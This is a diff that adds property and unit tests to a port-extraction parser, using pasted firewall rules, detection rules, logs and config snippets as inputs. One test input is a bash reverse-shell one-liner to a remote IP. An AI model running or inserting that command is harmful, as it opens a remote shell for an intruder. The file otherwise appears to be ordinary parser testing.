@@ -1023,4 +1023,78 @@ describe("pasted text: ranking", () => {
       expect(parseQuery(book, "allow tcp/443 from 10.0.0.0/16").ports.map((r) => r.from)).toEqual([443]);
     });
   });
+
+  describe("forms read since the fourteenth fresh set", () => {
+    it("a YAML key that names a port heads the list below it: Sigma's `dst_port:`", () => {
+      fc.assert(
+        fc.property(
+          fc.uniqueArray(fc.integer({ min: 1, max: 65535 }), { minLength: 1, maxLength: 8 }),
+          fc.constantFrom("dst_port", "DestinationPort|contains", "ports"),
+          (ports, key) => {
+            const rule = `detection:\n    selection:\n        ${key}:\n${ports.map((p) => `            - ${p}`).join("\n")}\n    condition: selection`;
+            expect(found(rule)).toEqual(ports);
+          },
+        ),
+        { numRuns: propertyRuns(100) },
+      );
+      expect(readPaste("selection_allow1:\n    action:\n        - forward\n        - 2").found).toEqual([]);
+    });
+
+    it("an XML element named as a port gives its value, whatever its attributes", () => {
+      expect(found('<DestinationPort name="technique_id=T1571" condition="is">4444</DestinationPort>')).toEqual([4444]);
+      expect(readPaste('<ProcessId condition="is">4444</ProcessId>').found).toEqual([]);
+    });
+
+    it("a port after an arrow or a quoted placeholder host, never a JSON key's value", () => {
+      expect(found("plugin/loop: Loop (127.0.0.1:55953 -> :1053) detected")).toContain(1053);
+      expect(found('    server "YourHostName OR IP":5001; #port')).toEqual([5001]);
+      expect(readPaste('{"Wifi":{"AP":1,"SSId":"net","RSSI":80}}').found).toEqual([]);
+    });
+
+    it("`ufw status` rows are ports; iptables' numbered rows are not", () => {
+      const ufw =
+        "To                         Action      From\n--                         ------      ----\n80                         ALLOW       Anywhere\n445/tcp (v6)               DENY IN     Anywhere (v6)";
+      expect(new Set(findPorts(ufw).map((f) => `${f.port}/${f.protocol}`))).toEqual(new Set(["80/undefined", "445/TCP"]));
+      expect(
+        readPaste("9    REJECT     tcp  --  anywhere             anywhere             tcp dpt:mysql").found.map((f) => f.port),
+      ).toEqual([3306]);
+    });
+
+    it("bash's /dev/tcp path names a port; `ls -l`'s counts and sizes and an FTP reply's code do not", () => {
+      expect(findPorts("bash -i >& /dev/tcp/192.168.49.195/445 0>&1").map((f) => `${f.port}/${f.protocol}`)).toEqual(["445/TCP"]);
+      const ftp = "ftp> dir\n200 PORT command successful\n-rw-r--r--   1 ftp      ftp           901 Aug  2  2020 index.php.bak";
+      expect(readPaste(ftp).found.map((f) => f.port)).toEqual([21]);
+      expect([...readPaste(ftp).nonPorts]).toEqual(expect.arrayContaining([200, 901]));
+    });
+
+    it("mail, SOCKS, SIP and VNC servers named alone answer for their ports", () => {
+      expect(found("Jan 10 postfix/smtpd[123]: lost connection after AUTH from unknown[10.0.0.5]")).toEqual([25]);
+      expect(found("Jan 10 danted[4567]: block(1): tcp/accept ]: 10.0.0.5.4433 0.0.0.0.1080: error after reading")).toContain(
+        1080,
+      );
+      expect(found("asterisk: Registration from '<sip:100@10.0.0.5>' failed for '10.0.0.9' - Wrong password")).toEqual([5060]);
+      expect(found("screensharingd[2145]: Authentication: FAILED :: User Name: N/A :: Viewer Address: 10.0.0.5")).toEqual([5900]);
+    });
+
+    it("a run of numbers with spaces between them after a port label is a list, across a line continued with a backslash", () => {
+      const snort =
+        "preprocessor stream5_tcp: policy windows, timeout 180, \\\n    ports client 21 22 23 25 \\\n        161 445, \\\n    ports both 80 443 3389";
+      expect(found(snort)).toEqual([21, 22, 23, 25, 161, 445, 80, 443, 3389]);
+      expect(found("Open ports: 22 80 443")).toEqual([22, 80, 443]);
+    });
+
+    it("a tool's host after its flags, ELB's `HTTP:80/png`, Kibana's `http://0:5601`, ZooKeeper's tag, a port glued to Japanese", () => {
+      expect(found("$ nc -v api 80\napi [172.18.0.101] 80 (http) : Connection refused")).toEqual([80]);
+      expect(findPorts("--health-check Target=HTTP:80/png,Interval=30").map((f) => `${f.port}/${f.protocol}`)).toEqual([
+        "80/TCP",
+      ]);
+      expect(found('{"message":"Server running at http://0:5601"}')).toEqual([5601]);
+      expect(
+        found("2015-07-29 19:04:12,394 - INFO  [/10.10.34.11:3888:QuorumCnxManager$Listener@493] - Received connection request"),
+      ).toEqual([3888]);
+      expect(findPorts("zabbixサーバは10051/tcpでリッスンしているとする。").map((f) => `${f.port}/${f.protocol}`)).toEqual([
+        "10051/TCP",
+      ]);
+    });
+  });
 });
